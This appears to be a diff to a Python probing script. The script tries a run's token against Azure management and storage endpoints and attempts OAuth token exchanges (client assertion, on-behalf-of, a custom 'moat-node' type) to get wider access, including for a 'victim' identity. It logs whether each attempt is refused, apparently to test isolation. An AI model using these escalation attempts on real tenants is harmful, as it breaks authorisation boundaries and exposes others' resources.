@@ -12,6 +12,8 @@ def tried(what, action):
         said = action()
     except urllib.error.HTTPError as refusal:
         said = refusal.code
+    except socket.timeout:
+        said = "no answer"
     except OSError as error:
         said = errno.errorcode.get(error.errno, type(error).__name__)
     print(json.dumps({"what": what, "said": str(said)}), flush=True)
@@ -116,6 +118,8 @@ tried("ARM as the run", lambda: ask("GET", ARM + given["workspace"] + "?api-vers
 tried("storage as the run", lambda: ask("GET", given["blobs"] + "?restype=container&comp=list", **{"x-ms-version": "2021-08-06"}))
 tried("wider by client assertion", lambda: login(grant_type="client_credentials", client_id=run,
       client_assertion_type="urn:ietf:params:oauth:client-assertion-type:jwt-bearer", client_assertion=token))
+tried("wider as the node", lambda: login(grant_type="client_credentials", client_id=run,
+      client_assertion_type="urn:ietf:params:oauth:client-assertion-type:moat-node", client_assertion=token))
 tried("wider on behalf of", lambda: login(grant_type="urn:ietf:params:oauth:grant-type:jwt-bearer", client_id=run,
       client_secret="x", assertion=token, requested_token_use="on_behalf_of"))
 for name in (run, given["victim"]):
